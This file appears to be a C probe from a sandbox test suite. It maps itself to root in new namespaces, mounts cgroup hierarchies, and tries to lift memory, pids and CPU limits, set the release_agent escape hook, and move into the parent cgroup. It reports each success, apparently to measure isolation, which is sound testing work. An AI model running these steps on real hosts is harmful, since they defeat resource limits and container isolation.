/*
 * lift_limits [FOLDER]: on Linux, a build that may have namespaces mounts the cgroups that it can and writes to every file
 * there that is a limit, makes cgroups, and moves. One line for what it mounted, and one for all that it could write.
 */
#define _GNU_SOURCE /* unshare(2) */
#include <sys/types.h>
#include <sys/mount.h>
#include <sys/stat.h>

#include <dirent.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "../answer.h"

/* `word` into a file of that name in a folder. */
static long
put(const char *folder, const char *name, const char *word)
{
	char path[4096];
	int file;
	long written;

	snprintf(path, sizeof(path), "%s/%s", folder, name);
	if ((file = open(path, O_WRONLY)) < 0)
		return -1;
	written = write(file, word, strlen(word));
	close(file);
	return written;
}

static void
attack(const char *how, const char *folder)
{
	static const struct {
		const char *file, *word;
	} limits[] = {
		{ "memory.max", "max" }, { "memory.swap.max", "max" }, { "pids.max", "max" }, { "cpu.max", "max" },
		{ "memory.limit_in_bytes", "-1" }, { "memory.memsw.limit_in_bytes", "-1" }, { "cpu.cfs_quota_us", "-1" },
		{ "cgroup.subtree_control", "+memory +pids +cpu" }, { "release_agent", "/tmp/agent" }, { "notify_on_release", "1" },
	};
	char path[4096];
	int seen = 0;

	for (size_t i = 0; i < sizeof(limits) / sizeof(*limits); i++) {
		snprintf(path, sizeof(path), "%s/%s", folder, limits[i].file);
		if (access(path, F_OK) != 0)
			continue;
		seen++;
		if (put(folder, limits[i].file, limits[i].word) >= 0)
			printf("%s, %s: ok\n", how, limits[i].file);
	}
	snprintf(path, sizeof(path), "%s/more", folder);
	if (mkdir(path, 0755) == 0)
		printf("%s, mkdir: ok\n", how);
	snprintf(path, sizeof(path), "%s/..", folder);
	if (put(path, "cgroup.procs", "0") >= 0)
		printf("%s, the one above: ok\n", how);
	printf("%s, seen: %d\n", how, seen);
}

int
main(int argc, char **argv)
{
	static const char *const versions[] = { "cgroup2", "memory", "pids", "cpu", "cpuacct", "cpu,cpuacct", "name=systemd" };
	uid_t uid = getuid();
	gid_t gid = getgid();
	char line[64], folder[64];

	(void)argc, (void)argv;
	if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP) != 0) {
		tell_of("namespace", -1);
		return 0;
	}
	put("/proc/self", "setgroups", "deny");
	snprintf(line, sizeof(line), "0 %u 1", uid);
	put("/proc/self", "uid_map", line);
	snprintf(line, sizeof(line), "0 %u 1", gid);
	put("/proc/self", "gid_map", line);
	for (size_t i = 0; i < sizeof(versions) / sizeof(*versions); i++) {
		int is_second = i == 0;
		snprintf(folder, sizeof(folder), "/tmp/cgroup%zu", i);
		mkdir(folder, 0755);
		if (mount("none", folder, is_second ? "cgroup2" : "cgroup", 0, is_second ? NULL : versions[i]) == 0)
			attack(versions[i], folder);
		else
			tell_of(versions[i], -1);
	}
	return 0;
}
